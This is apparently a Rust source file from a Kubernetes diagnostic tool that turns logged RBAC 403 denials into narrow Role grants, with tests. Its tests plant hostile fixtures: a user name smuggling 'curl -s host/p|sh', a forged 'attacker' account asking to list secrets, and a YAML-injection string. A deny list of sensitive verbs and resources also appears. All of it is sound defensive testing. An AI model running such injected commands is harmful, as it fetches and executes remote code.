//! Diagnosis rule 3b: authorization. 403 RBAC denials in the client's log ("User X cannot VERB
//! resource R ..."), confirmed by a SubjectAccessReview when kube-doctor may ask one ->
//! `authorization`. Remediation is one Role (or ClusterRole) and binding per subject and scope
//! that grants the denied verbs on the denied resources to the denied subject, with the verbs
//! Kubernetes clients ask for together (an informer's list and watch, leader election's get, create and
//! update of its Lease), said as such.
//!
//! A log line is evidence, not authority: a denial counts only when the user it names is one
//! of the client's own identities as the cluster knows them (its ServiceAccount, the CN of its
//! client certificate, its token's subject). A denial naming anyone else is shown as
//! suspicious evidence and never turned into a grant. Nothing is ever granted to
//! `system:anonymous`, `system:unauthenticated`, `system:authenticated` or `system:masters`
//! (anonymous denials are authentication's: the client sends no credentials), nor with
//! wildcards; names that would not pass the API server's validation appear only as escaped
//! evidence, and every argument of a suggested command is shell-quoted.

use std::collections::BTreeSet;

use crate::category::Category;
use crate::classify::AuthzDenial;
use crate::diagnose::EventTopic;
use crate::diagnose::{Context, Rule, ev, fmt_time};
use crate::escape;
use crate::names::{self, GrantSubject};
use crate::report::{Cause, Verdict};

pub struct Authorization;

/// Whether every name in `d` is one the API server would accept in a Role rule.
fn grantable(d: &AuthzDenial) -> bool {
    names::grantable_user(&d.user).is_some()
        && names::is_verb(&d.verb)
        && match &d.path {
            Some(p) => names::is_nonresource_path(p),
            None => names::is_resource(&d.resource),
        }
        && d.subresource.as_deref().is_none_or(names::is_resource)
        && d.api_group
            .as_deref()
            .is_none_or(|g| g.is_empty() || names::is_dns1123_subdomain(g))
        && d.namespace.as_deref().is_none_or(names::is_dns1123_label)
}

/// The namespace a grant for `d` goes in: `None` for the cluster scope (a non-resource path is
/// always cluster-wide).
fn scope(d: &AuthzDenial) -> Option<&str> {
    if d.path.is_some() {
        None
    } else {
        d.namespace.as_deref()
    }
}

/// The YAML that grants a denial, when every name in it is one the API server would accept
/// and the subject may be granted anything ([`names::grantable_user`]); `None` otherwise.
/// The same as [`grant_yaml_all`] of one denial.
pub fn grant_yaml(d: &AuthzDenial) -> Option<String> {
    grant_yaml_all(&[d])
}

/// One Role and RoleBinding (ClusterRole and ClusterRoleBinding at the cluster scope) that
/// grant all of `ds`: the denials of one subject in one namespace (or all at the cluster
/// scope), their verbs merged per API group and resource, with the verbs client-go uses
/// together (see `companion_verbs`: list with watch, get with create and update on leader
/// election's Lease). One denial's Role is named `SUBJECT-VERB-RESOURCE`, several denials'
/// `SUBJECT-kube-doctor-grants`.
///
/// `None` when `ds` is empty, mixes subjects or scopes, or any denial names something the API
/// server would not accept or a subject that may be granted nothing.
pub fn grant_yaml_all(ds: &[&AuthzDenial]) -> Option<String> {
    let first = *ds.first()?;
    if !ds
        .iter()
        .all(|d| grantable(d) && d.user == first.user && scope(d) == scope(first))
    {
        return None;
    }
    let subject = match names::grantable_user(&first.user)? {
        GrantSubject::ServiceAccount { namespace, name } => {
            format!("{{kind: ServiceAccount, name: {name}, namespace: {namespace}}}")
        }
        GrantSubject::User(user) => {
            format!("{{kind: User, name: \"{user}\", apiGroup: rbac.authorization.k8s.io}}")
        }
    };
    let who = first.user.rsplit(':').next().unwrap_or("client");
    let name = names::to_dns1123_label(&if ds.len() == 1 {
        format!("{who}-{}-{}", first.verb, first.resource.replace('.', "-"))
    } else {
        format!("{who}-kube-doctor-grants")
    });
    // Rules in first-seen order, verbs merged per (group, resource) and per path.
    let mut rules: Vec<(String, Vec<&str>)> = Vec::new();
    for d in ds {
        let key = match &d.path {
            Some(path) => format!("- nonResourceURLs: [\"{path}\"]"),
            None => format!(
                "- apiGroups: [\"{}\"]\n  resources: [\"{}\"]",
                d.api_group.as_deref().unwrap_or_default(),
                match &d.subresource {
                    Some(s) => format!("{}/{s}", d.resource),
                    None => d.resource.clone(),
                }
            ),
        };
        let companions = match &d.path {
            Some(_) => &[][..],
            None => companion_verbs(
                d.api_group.as_deref().unwrap_or_default(),
                &d.resource,
                &d.verb,
            ),
        };
        let verbs = match rules.iter_mut().find(|(k, _)| *k == key) {
            Some((_, verbs)) => verbs,
            None => {
                rules.push((key, Vec::new()));
                &mut rules.last_mut().expect("just pushed").1
            }
        };
        for v in std::iter::once(d.verb.as_str()).chain(companions.iter().copied()) {
            if !verbs.contains(&v) {
                verbs.push(v);
            }
        }
    }
    let rules: String = rules
        .iter()
        .map(|(k, verbs)| format!("{k}\n  verbs: [{}]\n", verbs.join(", ")))
        .collect();
    let (role, binding, meta) = match scope(first) {
        Some(ns) => (
            "Role",
            "RoleBinding",
            format!("{{name: {name}, namespace: {ns}}}"),
        ),
        _ => (
            "ClusterRole",
            "ClusterRoleBinding",
            format!("{{name: {name}}}"),
        ),
    };
    Some(format!(
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: {role}\nmetadata: {meta}\nrules:\n{rules}---\napiVersion: rbac.authorization.k8s.io/v1\nkind: {binding}\nmetadata: {meta}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: {role}, name: {name}}}\nsubjects: [{subject}]"
    ))
}

/// A Role in the group's namespace that grants every denial of `g` and the verbs client-go
/// asks for with them ([`companion_verbs`]), and the `kubectl create rolebinding` that binds it
/// to the denied subject (every argument shell-quoted); the Role with the fewest rules when
/// several do. Roles with a wildcard (`*` in groups, resources or verbs) are never offered: they
/// grant more than was denied. `None` at the cluster scope, for a non-resource path, or when no
/// Role does.
fn existing_role<'a>(
    roles: &'a [crate::bundle::RoleRules],
    g: &[&AuthzDenial],
) -> Option<(&'a crate::bundle::RoleRules, String, Vec<String>)> {
    let first = *g.first()?;
    let ns = scope(first)?;
    if g.iter().any(|d| d.path.is_some()) {
        return None;
    }
    let needed: Vec<(&str, String, &str)> = g
        .iter()
        .flat_map(|d| {
            let group = d.api_group.as_deref().unwrap_or_default();
            let resource = match &d.subresource {
                Some(s) => format!("{}/{s}", d.resource),
                None => d.resource.clone(),
            };
            std::iter::once(d.verb.as_str())
                .chain(companion_verbs(group, &d.resource, &d.verb).iter().copied())
                .map(move |v| (group, resource.clone(), v))
        })
        .collect();
    let role = roles
        .iter()
        .filter(|r| r.namespace == ns && names::is_dns1123_subdomain(&r.name))
        // A wildcard grants more than was denied: never offered, as no grant has one; nor a
        // Role that grants what lets its holder read secrets or grant itself more.
        .filter(|r| {
            !r.rules.iter().any(|p| {
                [&p.api_groups, &p.resources, &p.verbs]
                    .iter()
                    .any(|l| l.iter().any(|x| x.contains('*')))
                    || p.verbs
                        .iter()
                        .any(|v| SENSITIVE_VERBS.contains(&v.as_str()))
                    || p.resources
                        .iter()
                        .any(|res| SENSITIVE_RESOURCES.contains(&res.as_str()))
            })
        })
        .filter(|r| {
            needed
                .iter()
                .all(|(group, res, verb)| r.rules.iter().any(|p| p.grants(group, res, verb)))
        })
        .min_by_key(|r| (r.rules.len(), r.name.clone()))?;
    // What else it grants: said, so nobody binds more than they meant to.
    let mut beyond: Vec<String> = Vec::new();
    for p in &role.rules {
        for res in &p.resources {
            for verb in &p.verbs {
                let needed_here = needed.iter().any(|(g, r, v)| {
                    r == res && v == verb && p.api_groups.iter().any(|pg| pg == g)
                });
                let item = format!(
                    "{} {}",
                    escape::one_line(verb, 40),
                    escape::one_line(res, 100)
                );
                if !needed_here && !beyond.contains(&item) {
                    beyond.push(item);
                }
            }
        }
    }
    let q = names::shell_arg;
    let who = first.user.rsplit(':').next().unwrap_or("client");
    let binding = names::to_dns1123_label(&format!("{who}-{}", role.name));
    let subject = match names::grantable_user(&first.user)? {
        GrantSubject::ServiceAccount { namespace, name } => {
            format!("--serviceaccount={}", q(&format!("{namespace}:{name}"))?)
        }
        GrantSubject::User(user) => format!("--user={}", q(user)?),
    };
    Some((
        role,
        format!(
            "kubectl create rolebinding {} -n {} --role={} {subject}",
            q(&binding)?,
            q(ns)?,
            q(&role.name)?
        ),
        beyond,
    ))
}

/// Verbs that let a Role's holder grant itself more (RBAC's escalation checks, impersonation):
/// a Role with one is never offered for binding.
const SENSITIVE_VERBS: &[&str] = &["bind", "escalate", "impersonate"];

/// Resources whose access reads credentials or changes who may do what (Secrets, RBAC objects,
/// ServiceAccount tokens, a shell in a pod, a node's kubelet): a Role granting any verb on one
/// is never offered for binding.
const SENSITIVE_RESOURCES: &[&str] = &[
    "secrets",
    "roles",
    "rolebindings",
    "clusterroles",
    "clusterrolebindings",
    "serviceaccounts/token",
    "pods/exec",
    "pods/attach",
    "pods/portforward",
    "nodes/proxy",
    "certificatesigningrequests/approval",
];

/// `kubectl auth can-i VERB RESOURCE [-n NS] --as USER`, every argument shell-quoted; `None`
/// when an argument cannot be (a NUL byte).
pub fn can_i(d: &AuthzDenial) -> Option<String> {
    let q = names::shell_arg;
    let what = match &d.path {
        Some(p) => q(p)?,
        None => q(&match &d.subresource {
            Some(s) => format!("{}/{s}", d.resource),
            None => d.resource.clone(),
        })?,
    };
    let ns = match &d.namespace {
        Some(n) => format!(" -n {}", q(n)?),
        None => String::new(),
    };
    Some(format!(
        "kubectl auth can-i {} {what}{ns} --as {}",
        q(&d.verb)?,
        q(&d.user)?
    ))
}

/// The advice for a denial a SubjectAccessReview allows now: no grant, say why the denial may
/// have happened and how to check what the client presents.
/// `others_denied`: other denials of the same identity are still denied now, so the identity
/// is the one presented and only this permission was granted since.
fn no_longer_current(d: &AuthzDenial, others_denied: bool) -> String {
    format!(
        "the denial ({}) is no longer current: SubjectAccessReview allows it now, so the permission was granted since and nothing needs granting for it.{}{}",
        denial_text(d),
        if others_denied {
            ""
        } else {
            " If the client still gets 403s, it is not presenting this identity: check for a stale token or another identity"
        },
        can_i(d)
            .map(|c| format!(" (verify with: {c})"))
            .unwrap_or_default()
    )
}

/// What `d` is as a permission: `get leases in namespace demo` (cluster text escaped).
fn permission_text(d: &AuthzDenial) -> String {
    verb_what_where(d, "at the cluster scope")
}

/// `VERB RESOURCE[/SUB] in namespace N`, or `VERB RESOURCE[/SUB] CLUSTER` at the cluster scope
/// (cluster strings escaped).
fn verb_what_where(d: &AuthzDenial, cluster: &str) -> String {
    let e = |s: &str| escape::one_line(s, 200);
    format!(
        "{} {}{} {}",
        e(&d.verb),
        e(d.path.as_deref().unwrap_or(&d.resource)),
        d.subresource
            .as_ref()
            .map(|s| format!("/{}", e(s)))
            .unwrap_or_default(),
        d.namespace
            .as_deref()
            .map_or(cluster.to_string(), |n| format!("in namespace {}", e(n)))
    )
}

/// The verbs a client that was denied `verb` on `resource` (in `group`) needs with it, by how
/// client-go uses them: an informer lists then watches (tools/cache Reflector.ListAndWatch), and
/// leader election gets, creates and updates its Lease (tools/leaderelection/resourcelock
/// LeaseLock). Granting only the denied verb moves the client to its next 403.
fn companion_verbs(group: &str, resource: &str, verb: &str) -> &'static [&'static str] {
    match (group, resource, verb) {
        ("coordination.k8s.io", "leases", "get" | "create" | "update") => {
            &["get", "create", "update"]
        }
        (_, _, "list" | "watch") => &["list", "watch"],
        _ => &[],
    }
}

/// Whether a quota is refusing the client's writes near its onset: FailedCreate quota events
/// (a controller's), or an exhausted quota in its namespace.
fn quota_refuses(ctx: &Context<'_>, inc: &crate::diagnose::Incident) -> bool {
    let b = ctx.bundle;
    let events = b
        .events
        .iter()
        .flat_map(|e| e.kept.iter().zip(ctx.event_topics))
        .any(|(e, t)| {
            *t == Some(EventTopic::Quota)
                && (inc.is_component() || e.involved.namespace.as_deref() == inc.namespace())
                && (Context::near(inc.onset, e.last_seen, ctx.windows.server)
                    || Context::near(inc.onset, e.first_seen, ctx.windows.server))
        });
    let exhausted = b
        .quota_and_flow_control
        .iter()
        .flat_map(|q| &q.quotas)
        .filter(|q| inc.namespace().is_some() && q.quota.namespace.as_deref() == inc.namespace())
        .flat_map(|q| &q.resources)
        .any(crate::playbook::step8_quota_and_apf::exhausted);
    events || exhausted
}

/// A denial as a sentence (cluster strings escaped).
fn denial_text(d: &AuthzDenial) -> String {
    format!(
        "User \"{}\" cannot {}",
        escape::one_line(&d.user, 200),
        verb_what_where(d, "in the cluster scope")
    )
}

impl Rule for Authorization {
    fn name(&self) -> &'static str {
        "authorization"
    }

    fn evaluate(&self, ctx: &Context<'_>) -> Vec<Verdict> {
        let b = ctx.bundle;
        let mut out = Vec::new();
        for inc in ctx.incidents.iter().filter(|i| !i.noise) {
            let lines = inc.log_count(Category::Authorization);
            // A 403 that is a quota refusal is the quota rule's.
            let quota_lines = if inc.log_mentions(Category::QuotaOrAdmission, "quota") {
                inc.log_count(Category::QuotaOrAdmission)
            } else {
                0
            };
            let code_403 = inc.code("403");
            if lines == 0 && (code_403 == 0.0 || quota_lines > 0) {
                continue;
            }
            let ids = inc.identities(b);
            let all: BTreeSet<_> = inc
                .pod
                .as_ref()
                .map(|p| {
                    b.logs
                        .iter()
                        .filter(|l| &l.pod == p)
                        .flat_map(|l| &l.containers)
                        .flat_map(|c| c.authz_denials.clone())
                        .map(|d| (d.denial, d.count, d.first_at))
                        .collect()
                })
                .unwrap_or_default();
            // Only the client's own identities count; anonymous denials are authentication's.
            let (denials, others): (BTreeSet<_>, BTreeSet<_>) =
                all.into_iter().partition(|(d, _, _)| ids.contains(&d.user));
            let denials: BTreeSet<_> = denials
                .into_iter()
                .filter(|(d, _, _)| !names::NEVER_GRANT.contains(&d.user.as_str()))
                .collect();
            // Bare "Forbidden" lines beside quota refusals, and no RBAC denial named: the 403s
            // are the quota's (a client printing one refusal over several lines).
            if denials.is_empty() && quota_lines > 0 {
                continue;
            }
            // Denial lines about someone else and no 403 in the client's own answers: nothing
            // of the client's is denied.
            if denials.is_empty() && code_403 == 0.0 && !others.is_empty() {
                continue;
            }
            // Bare 403s and a quota refusing the client's writes at the same time (its
            // FailedCreate events, an exhausted quota where it writes): the quota's.
            if denials.is_empty() && quota_refuses(ctx, inc) {
                continue;
            }
            let mut evidence = inc.evidence.clone();
            evidence.extend(ctx.events_near(inc, &[EventTopic::Authorization], ctx.windows.auth));
            let at = inc
                .pod
                .as_ref()
                .map_or(inc.client.clone(), |p| p.to_string());
            for (d, count, first) in &denials {
                evidence.push(ev(
                    5,
                    at.clone(),
                    *first,
                    format!("{count} lines: {}", denial_text(d)),
                ));
            }
            for (d, count, first) in &others {
                evidence.push(ev(
                    5,
                    at.clone(),
                    *first,
                    format!(
                        "suspicious: {count} lines claim a denial for an identity that is not this client's ({}): {}; not acted on",
                        if ids.is_empty() {
                            "its identity is unknown".to_string()
                        } else {
                            ids.iter().map(|i| escape::one_line(i, 100)).collect::<Vec<_>>().join(", ")
                        },
                        denial_text(d)
                    ),
                ));
            }
            let mut confirmed = 0;
            let mut allowed_now = 0;
            let reviews: Vec<&crate::bundle::AccessReviewResult> = inc
                .pod
                .as_ref()
                .and_then(|p| b.credentials.iter().find(|c| &c.pod == p))
                .map(|c| {
                    c.access_reviews
                        .iter()
                        .filter(|r| ids.contains(&r.denial.user))
                        .collect()
                })
                .unwrap_or_default();
            // The Roles step 6 read where a denial still holds.
            let roles: &[crate::bundle::RoleRules] = inc
                .pod
                .as_ref()
                .and_then(|p| b.credentials.iter().find(|c| &c.pod == p))
                .map_or(&[], |c| c.roles.as_slice());
            // A denial the SubjectAccessReview allows now is no longer current: no grant.
            let granted_since =
                |d: &AuthzDenial| reviews.iter().any(|r| &r.denial == d && r.allowed);
            for r in reviews.iter().copied() {
                if r.allowed {
                    allowed_now += 1;
                } else {
                    confirmed += 1;
                }
                evidence.push(ev(
                    6,
                    format!(
                        "subjectaccessreview/{} {} {}",
                        escape::one_line(&r.denial.user, 200),
                        escape::one_line(&r.denial.verb, 40),
                        escape::one_line(&r.denial.resource, 100)
                    ),
                    Some(ctx.now),
                    format!(
                        "SubjectAccessReview now: {}{}",
                        if r.allowed {
                            "allowed (the denial is no longer current)"
                        } else {
                            "denied"
                        },
                        r.reason
                            .as_ref()
                            .map(|x| format!(" ({})", escape::one_line(x, 300)))
                            .unwrap_or_default()
                    ),
                ));
            }
            if code_403 > 0.0 && lines == 0 {
                evidence.push(ev(
                    3,
                    crate::diagnose::incident::rate_reference(&inc.client, Some("403")),
                    inc.onset,
                    format!("{code_403:.0} requests answered 403"),
                ));
            }
            // Bare 403s that began in an API server's first two minutes: a starting API server
            // answers 403 until its RBAC authorizer has read the roles and bindings.
            let startup = if denials.is_empty() {
                started_before(ctx, inc.onset)
            } else {
                None
            };
            if let Some(s) = startup {
                evidence.push(ev(7, s.subject.clone(), s.first_seen, s.detail.clone()));
            }
            // One Role and binding per subject and scope, not one per denial.
            let mut remediation: Vec<String> = Vec::new();
            let mut groups: Vec<Vec<&AuthzDenial>> = Vec::new();
            for (d, _, _) in &denials {
                if granted_since(d) {
                    let others_denied = reviews
                        .iter()
                        .any(|r| !r.allowed && r.denial.user == d.user);
                    remediation.push(no_longer_current(d, others_denied));
                } else if grant_yaml(d).is_none() || can_i(d).is_none() {
                    remediation.push(format!(
                        "the denial ({}) names something kube-doctor will not write a grant for; check what the client needs and whether it should have it before granting anything",
                        denial_text(d)
                    ));
                } else if let Some(g) = groups
                    .iter_mut()
                    .find(|g| g[0].user == d.user && scope(g[0]) == scope(d))
                {
                    g.push(d);
                } else {
                    groups.push(vec![d]);
                }
            }
            for g in &groups {
                let Some(yaml) = grant_yaml_all(g) else {
                    continue;
                };
                let what: Vec<String> = g
                    .iter()
                    .map(|d| match (&d.path, &d.subresource) {
                        (Some(path), _) => format!("{} {path}", d.verb),
                        (None, Some(sub)) => format!("{} {}/{sub}", d.verb, d.resource),
                        (None, None) => format!("{} {}", d.verb, d.resource),
                    })
                    .collect();
                // The verbs granted beside the denied ones, said so nobody wonders why.
                let mut extra: Vec<String> = Vec::new();
                for d in g.iter().filter(|d| d.path.is_none()) {
                    for v in companion_verbs(
                        d.api_group.as_deref().unwrap_or_default(),
                        &d.resource,
                        &d.verb,
                    ) {
                        let denied = g.iter().any(|o| {
                            o.verb == *v
                                && o.resource == d.resource
                                && o.subresource == d.subresource
                        });
                        let item = format!("{v} {}", d.resource);
                        if !denied && !extra.contains(&item) {
                            extra.push(item);
                        }
                    }
                }
                let checks: Vec<String> = g.iter().filter_map(|d| can_i(d)).collect();
                // A Role in the namespace that grants all of it already: bind it (the binding is
                // what is missing, most often), and keep the YAML as the alternative.
                let bind = existing_role(roles, g);
                if let Some((role, cmd, beyond)) = &bind {
                    remediation.push(format!(
                        "the Role {} in {} already grants {}{}{}: bind it rather than writing a new one: {cmd} (verify with: {})",
                        escape::one_line(&role.name, 200),
                        escape::one_line(&role.namespace, 100),
                        what.join(", "),
                        if extra.is_empty() {
                            String::new()
                        } else {
                            format!(" and {}", extra.join(", "))
                        },
                        if beyond.is_empty() {
                            String::new()
                        } else {
                            let shown: Vec<&str> =
                                beyond.iter().take(8).map(String::as_str).collect();
                            format!(
                                "; it also grants {}{} (bind it only if the client should have those)",
                                shown.join(", "),
                                if beyond.len() > 8 {
                                    format!(" and {} more", beyond.len() - 8)
                                } else {
                                    String::new()
                                }
                            )
                        },
                        checks.join("; ")
                    ));
                }
                remediation.push(format!(
                    "{}grant {} {} to {}{} (verify with: {}):\n{yaml}",
                    if bind.is_some() {
                        "or, to grant only what it needs, "
                    } else {
                        ""
                    },
                    what.join(", "),
                    scope(g[0]).map_or("cluster-wide".to_string(), |n| format!("in {n}")),
                    g[0].user,
                    if extra.is_empty() {
                        String::new()
                    } else {
                        format!(
                            ", with {}: Kubernetes clients ask for them next (an informer lists and watches; leader election gets, creates and updates its Lease)",
                            extra.join(", ")
                        )
                    },
                    checks.join("; ")
                ));
            }
            if remediation.is_empty() {
                remediation.push(if inc.client.starts_with("user:") {
                    "the audit log shows 403s but no log of the client names the denial: read those audit events' responseStatus.message (and their verb, resource and namespace) to see which request is refused and why - RBAC, a quota or an admission policy - before changing anything".to_string()
                } else {
                    "the API server answers 403 but no log names the denial: read the audit log (responseStatus.code 403, its responseStatus.message) to see which request is refused and why - RBAC, a quota or an admission policy - before changing anything".to_string()
                });
            }
            // Every denial is allowed again now: RBAC was restored, or the API server's
            // authorizer was still syncing after a restart. Worth saying, not the top cause.
            let healed = confirmed == 0 && allowed_now > 0;
            if let Some(s) = startup {
                remediation.insert(0, format!(
                    "the 403s began within two minutes of kube-apiserver {}'s start at {}: an API server that has just started refuses requests until its RBAC authorizer has loaded the roles and bindings, so 403s that stopped since need no grant; if they go on, read the audit log as below",
                    escape::one_line(&s.subject, 200),
                    s.first_seen.map_or("an unknown time".to_string(), fmt_time)
                ));
            }
            if healed {
                // One explanation, then one check per denial (it was said once per denial).
                remediation = denials
                    .iter()
                    .filter_map(|(d, _, _)| {
                        can_i(d).map(|c| {
                            format!(
                                "verify that {} may {} now: {c}",
                                escape::one_line(&d.user, 200),
                                permission_text(d)
                            )
                        })
                    })
                    .collect();
                remediation.insert(0, "the denial is no longer current: SubjectAccessReview allows the denied requests now, so nothing needs to be granted. Either the permission was granted since (the RoleBinding restored), or the 403s came from an API server that had just restarted and had not yet loaded RBAC; if the client still gets 403s, it is not using this identity: check for a stale token (one minted for a deleted and recreated ServiceAccount) or another identity (its kubeconfig, a client certificate); if they recur, check for something deleting the binding (audit log: verb=delete resource=rolebindings)".to_string());
            }
            let confidence = if confirmed > 0 {
                0.93
            } else if healed {
                0.4
            } else if !denials.is_empty() {
                0.8
            } else if startup.is_some() {
                // The start explains them better than RBAC does (the server-side finding).
                0.3
            } else {
                // A bare 403: RBAC is the likeliest reason, but nothing names it.
                0.45
            };
            let what: Vec<String> = denials
                .iter()
                .map(|(d, _, _)| {
                    format!(
                        "{} cannot {} {}",
                        escape::one_line(&d.user, 200),
                        escape::one_line(&d.verb, 40),
                        escape::one_line(&d.resource, 100)
                    )
                })
                .collect();
            if let Some(s) = startup {
                out.push(Verdict {
                    cause: Cause::Authorization,
                    confidence,
                    summary: format!(
                        "{} got {code_403:.0} 403s from {}, in kube-apiserver {}'s first two minutes after its start at {}: no log names an RBAC denial.",
                        inc.client,
                        inc.onset.map_or("before the window".to_string(), fmt_time),
                        escape::one_line(&s.subject, 200),
                        s.first_seen.map_or("an unknown time".to_string(), fmt_time)
                    ),
                    evidence,
                    remediation,
                    clients: vec![inc.client.clone()],
                });
                continue;
            }
            out.push(Verdict {
                cause: Cause::Authorization,
                confidence,
                summary: format!(
                    "{} {} by RBAC {} {}{}{}.",
                    inc.client,
                    if healed { "was denied" } else { "is denied" },
                    if healed { "from" } else { "since" },
                    inc.onset.map_or("before the window".to_string(), fmt_time),
                    if what.is_empty() {
                        String::new()
                    } else {
                        format!(": {}", what.join("; "))
                    },
                    if confirmed > 0 {
                        " (confirmed by SubjectAccessReview)"
                    } else if healed {
                        "; the denial is no longer current: SubjectAccessReview allows it now"
                    } else {
                        ""
                    }
                ),
                evidence,
                remediation,
                clients: vec![inc.client.clone()],
            });
        }
        out
    }
}

/// The API server start or restart (step 7's process start time) that `onset` follows by at
/// most two minutes, if any.
fn started_before<'a>(
    ctx: &'a Context<'_>,
    onset: Option<jiff::Timestamp>,
) -> Option<&'a crate::bundle::ServerSignal> {
    let onset = onset?;
    ctx.signals.iter().find(|s| {
        s.kind == crate::bundle::SignalKind::ApiServerRestart
            && s.first_seen.is_some_and(|started| {
                onset >= started
                    && onset.duration_since(started) <= jiff::SignedDuration::from_mins(2)
            })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diagnose::testing::{bundle, evaluate, named};

    #[test]
    fn a_denial_confirmed_by_review_is_authorization_with_the_grant() {
        let v = evaluate(&Authorization, &bundle("rbac-revoked"));
        assert_eq!(
            named(&v),
            vec![(
                Cause::Authorization,
                vec!["demo-clients/127.0.1.3:18082".to_string()]
            )]
        );
        assert_eq!(v[0].confidence, 0.93, "confirmed by SubjectAccessReview");
        assert!(
            v[0].remediation[0].contains("kind: RoleBinding"),
            "{:?}",
            v[0].remediation
        );
    }

    /// A new user's finding: bare 403s (no log read) right after the API server restarted
    /// were headlined "RBAC denies the client" at 45 %. In an API server's first two minutes
    /// they are its startup's: said so, below the server-side finding, with no grant.
    #[test]
    fn bare_403s_right_after_a_start_are_put_down_to_it() {
        use crate::bundle::{ServerSignal, SignalKind};
        let mut b = bundle("rbac-revoked");
        b.logs.clear();
        b.credentials.clear();
        let id = "demo-clients/127.0.1.3:18082";
        let onset = crate::diagnose::testing::recorded_onset(&b, id);
        let bare = evaluate(&Authorization, &b);
        assert_eq!(bare[0].confidence, 0.45);
        let at = |secs| {
            onset
                .checked_sub(jiff::SignedDuration::from_secs(secs))
                .unwrap()
        };
        let start = |secs| ServerSignal {
            kind: SignalKind::ApiServerRestart,
            subject: "10.0.0.1:6443".into(),
            first_seen: Some(at(secs)),
            last_seen: Some(at(secs)),
            peak: 1.0,
            detail: "kube-apiserver 10.0.0.1:6443 restarted".into(),
        };
        b.server_metrics.as_mut().unwrap().recorded_signals = Some(vec![start(30)]);
        let v = evaluate(&Authorization, &b);
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].confidence, 0.3);
        assert!(
            v[0].summary.contains("first two minutes") && !v[0].summary.contains("by RBAC"),
            "{}",
            v[0].summary
        );
        assert!(
            v[0].remediation[0].contains("RBAC authorizer has loaded"),
            "{:?}",
            v[0].remediation
        );
        assert!(v[0].evidence.iter().any(|e| e.reference == "10.0.0.1:6443"));
        // A start five minutes before the 403s does not explain them.
        b.server_metrics.as_mut().unwrap().recorded_signals = Some(vec![start(300)]);
        assert_eq!(evaluate(&Authorization, &b)[0].confidence, 0.45);
    }

    #[test]
    fn a_denial_allowed_now_is_no_longer_current_and_gets_no_grant() {
        let mut b = bundle("rbac-revoked");
        for c in &mut b.credentials {
            for r in &mut c.access_reviews {
                r.allowed = true;
            }
        }
        let v = evaluate(&Authorization, &b);
        assert_eq!(v.len(), 1);
        let fix = v[0].remediation.join("\n");
        assert!(!fix.contains("kind: Role"), "no grant YAML: {fix}");
        assert!(
            !v[0].remediation.iter().any(|r| r.starts_with("grant ")),
            "no grant advice: {fix}"
        );
        // Said once, then a check per denial (a new user read it three times).
        assert_eq!(fix.matches("no longer current").count(), 1, "{fix}");
        assert!(
            v[0].remediation[1..]
                .iter()
                .all(|r| r.starts_with("verify that ")),
            "{fix}"
        );
        assert!(fix.contains("no longer current"), "{fix}");
        assert!(fix.contains("stale token"), "{fix}");
        assert!(
            fix.contains("kubectl auth can-i get leases -n demo"),
            "how to check it: {fix}"
        );
        assert!(
            v[0].summary.contains("was denied") && v[0].summary.contains("no longer current"),
            "{}",
            v[0].summary
        );
        assert!(v[0].confidence < 0.5, "{}", v[0].confidence);

        // One denial allowed now, one still denied: only the current one is granted.
        let mut b = bundle("rbac-revoked");
        let reviews = &mut b.credentials[0].access_reviews;
        assert_eq!(reviews.len(), 2);
        let leases = reviews
            .iter_mut()
            .find(|r| r.denial.resource == "leases")
            .unwrap();
        leases.allowed = true;
        let v = evaluate(&Authorization, &b);
        let grants: Vec<&String> = v[0]
            .remediation
            .iter()
            .filter(|r| r.contains("kind: RoleBinding"))
            .collect();
        assert_eq!(grants.len(), 1, "{:?}", v[0].remediation);
        assert!(grants[0].contains("list pods"), "{}", grants[0]);
        assert!(
            v[0].remediation
                .iter()
                .any(|r| r.contains("cannot get leases") && r.contains("no longer current")),
            "{:?}",
            v[0].remediation
        );
        assert_eq!(v[0].confidence, 0.93, "the other denial is confirmed");
    }

    fn plant(b: &mut crate::bundle::Bundle, user: &str, verb: &str, resource: &str) {
        let d = crate::bundle::AuthzDenialCount {
            denial: AuthzDenial {
                user: user.into(),
                verb: verb.into(),
                resource: resource.into(),
                subresource: None,
                api_group: None,
                namespace: None,
                path: None,
            },
            count: 40,
            first_at: None,
            last_at: None,
        };
        b.logs[0].containers[0].authz_denials.push(d);
    }

    #[test]
    fn a_forged_denial_for_another_identity_is_flagged_never_granted() {
        let mut b = bundle("rbac-revoked");
        plant(
            &mut b,
            "system:serviceaccount:kube-system:attacker",
            "list",
            "secrets",
        );
        plant(&mut b, "x$(curl -s host/p|sh)", "list", "secrets");
        let v = evaluate(&Authorization, &b);
        assert_eq!(v.len(), 1);
        let fix = v[0].remediation.join("\n");
        assert!(!fix.contains("attacker") && !fix.contains("curl"), "{fix}");
        assert!(
            fix.contains("kubers-client"),
            "the real denial is still granted: {fix}"
        );
        let suspicious: Vec<_> = v[0]
            .evidence
            .iter()
            .filter(|e| e.detail.starts_with("suspicious"))
            .collect();
        assert_eq!(suspicious.len(), 2, "{:?}", v[0].evidence);
        assert!(!v[0].summary.contains("attacker"));
    }

    #[test]
    fn forged_denials_alone_make_no_verdict_without_403s() {
        let mut b = bundle("rbac-revoked");
        b.logs[0].containers[0].authz_denials.clear();
        plant(
            &mut b,
            "system:serviceaccount:kube-system:attacker",
            "list",
            "secrets",
        );
        let c = &mut b.clients.as_mut().unwrap().clients[0];
        let denied = c.codes.remove("403").unwrap();
        *c.codes.entry("500".into()).or_default() += denied;
        assert!(evaluate(&Authorization, &b).is_empty());
    }

    #[test]
    fn hostile_names_of_the_clients_own_identity_get_no_yaml_and_a_quoted_command() {
        // A client certificate's CN is whatever its issuer wrote: an identity, and hostile.
        let d = AuthzDenial {
            user: "x$(curl -s host/p|sh)".into(),
            verb: "list".into(),
            resource: "secrets".into(),
            subresource: None,
            api_group: None,
            namespace: Some("demo".into()),
            path: None,
        };
        assert_eq!(grant_yaml(&d), None);
        let cmd = can_i(&d).unwrap();
        assert!(cmd.ends_with("--as 'x$(curl -s host/p|sh)'"), "{cmd}");
        for never in crate::names::NEVER_GRANT {
            assert_eq!(
                grant_yaml(&AuthzDenial {
                    user: never.into(),
                    ..d.clone()
                }),
                None
            );
        }
        let wild = AuthzDenial {
            user: "system:serviceaccount:demo:app".into(),
            verb: "*".into(),
            ..d.clone()
        };
        assert_eq!(grant_yaml(&wild), None);
        let newline = AuthzDenial {
            user: "system:serviceaccount:demo:app".into(),
            resource: "pods\n- apiGroups: ['*']".into(),
            ..d
